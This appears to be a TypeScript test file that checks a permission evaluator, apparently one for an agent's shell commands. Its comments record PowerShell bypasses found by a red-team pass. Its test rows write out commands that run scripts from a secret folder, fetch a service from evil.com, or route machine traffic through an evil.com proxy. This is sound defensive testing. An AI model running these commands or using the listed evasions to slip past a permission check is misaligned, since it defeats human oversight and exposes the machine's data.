// PowerShell lines a third red-team pass found allowed beside the deny rules they meet (session
// 30). Rows are also checked against the reference evaluator; ordinary lines stay allowed.
import { describe } from 'vitest';
import { lineTable, type LineRow } from './helpers/line-table.js';
import { REPO_WINDOWS, type Rules } from './helpers/policy.js';

const RULES: Rules = {
  deny: ['Shell(Remove-Item *)', 'PowerShell(Remove-Item *)', 'Shell(rm *)', 'Read(//c/secret/**)', 'Edit(//c/Windows/**)', 'Domain(evil.com)'],
  allow: ['Shell(*)', 'Read(/**)', 'Edit(/**)', 'Domain'],
};
const table = (rows: LineRow[]): void => lineTable(RULES, rows, 'pwsh', REPO_WINDOWS);

// Only -FilePath was read: Start-Job's -LiteralPath (-LP, -PSPath) and the positional script
// file (Start-Job's first position, Invoke-Command's after the computer name) ran a script the
// analysis never read.
describe('the script file a job or remote command runs (were allowed)', () => {
  table([
    ['Start-Job -LiteralPath C:\\secret\\x.ps1', 'deny'],
    ['Start-Job -LP C:\\secret\\x.ps1', 'deny'],
    ['Start-Job -Lit:C:\\secret\\x.ps1', 'deny'],
    ['Start-Job C:\\secret\\x.ps1', 'deny'],
    ['sajb C:\\secret\\x.ps1', 'deny'],
    ['Start-Job -Name j C:\\secret\\x.ps1', 'deny'],
    ['Start-Job -RunAs32 C:\\secret\\x.ps1', 'deny'],
    ['Start-Job -InitializationScript { Get-Date } C:\\secret\\x.ps1', 'deny'],
    ['Start-ThreadJob C:\\secret\\x.ps1', 'deny'],
    ['Invoke-Command localhost C:\\secret\\x.ps1', 'deny'],
    ['icm -cn localhost C:\\secret\\x.ps1', 'deny'],
    // (A script file from an expansion may be any script.)
    ['Start-Job $f', 'ask'],
    // (Session 35: a value the line sets is read, as `Start-Job C:\\secret\\x.ps1` is: it denies.)
    ["$f = 'C:\\secret\\x.ps1'; Start-Job $f", 'deny'],
    ['Invoke-Command localhost $f', 'ask'],
    ['Start-Job -Name:$n C:\\secret\\x.ps1', 'deny'],
    // (-DefinitionName, by name or in Start-Job's first position: a stored scheduled job runs.)
    ['Start-Job -DefinitionName x', 'ask'],
    ['Start-Job -DefinitionName x -DefinitionPath C:\\w', 'ask'],
    ['Start-Job x', 'ask'],
    // Precision: a script block, or a script in the workspace.
    ['Start-Job { Get-Date }', 'allow'],
    ['Start-Job .\\x.ps1', 'allow'],
    ['Start-Job -Name j { Get-Date } -ArgumentList 1', 'allow'],
    ['Start-Job -ScriptBlock { Get-Date }', 'allow'],
    ['Start-Job C:\\w\\repo\\x.ps1', 'allow'],
    ['Start-Job -LiteralPath .\\x.ps1', 'allow'],
    ['Invoke-Command srv { Get-Date }', 'allow'],
    ['Invoke-Command -Session $s -ScriptBlock { Get-Date }', 'allow'],
    ['Invoke-Command -ComputerName srv -FilePath .\\x.ps1', 'allow'],
  ]);
});

// New-WebServiceProxy fetches the service's WSDL from its -Uri (aliases -WSDL, -URL, -WL) as it
// runs; the URL was read by no table, only by the safety net's literal words: an unquoted `?wsdl`
// (a literal to the cmdlet) or an expansion hid it.
describe('the service New-WebServiceProxy fetches (was allowed)', () => {
  table([
    ['New-WebServiceProxy -Uri http://evil.com/s.asmx', 'deny'],
    ['New-WebServiceProxy http://evil.com/s.asmx', 'deny'],
    ['New-WebServiceProxy -WSDL http://evil.com/s.asmx -Namespace n', 'deny'],
    ["New-WebServiceProxy -Uri 'http://evil.com/s?wsdl'", 'deny'],
    // (The glob `?` after the host: the host is read all the same, url-words.ts.)
    ['New-WebServiceProxy -Uri http://evil.com/s?wsdl', 'deny'],
    ['New-WebServiceProxy -Uri $u', 'ask'],
    // Precision: another host.
    ["New-WebServiceProxy -Uri 'http://a.com/s?wsdl' -Namespace n", 'allow'],
  ]);
});

// `netsh winhttp set proxy HOST` sends the machine's WinHTTP traffic through HOST from then on,
// as `git config http.proxy` does git's: the proxy is a Domain part (netsh takes unique prefixes).
describe('the proxy netsh winhttp sets (was allowed)', () => {
  table([
    ['netsh winhttp set proxy evil.com:80', 'deny'],
    ['netsh winhttp set proxy proxy-server=evil.com:8080 bypass-list=*.local', 'deny'],
    ['netsh winhttp set proxy proxy-server="http=a.com:80;https=evil.com:443"', 'deny'],
    ['netsh winh se prox evil.com', 'deny'],
    ['netsh.exe winhttp set proxy evil.com', 'deny'],
    ['netsh winhttp set proxy $p', 'ask'],
    ["netsh winhttp set advproxy setting-scope=machine settings='{\"Proxy\":\"evil.com:80\"}'", 'ask'],
    // Precision: another proxy, or no proxy set.
    ['netsh winhttp set proxy a.com:80', 'allow'],
    ['netsh winhttp show proxy', 'allow'],
    ['netsh winhttp reset proxy', 'allow'],
  ]);
});
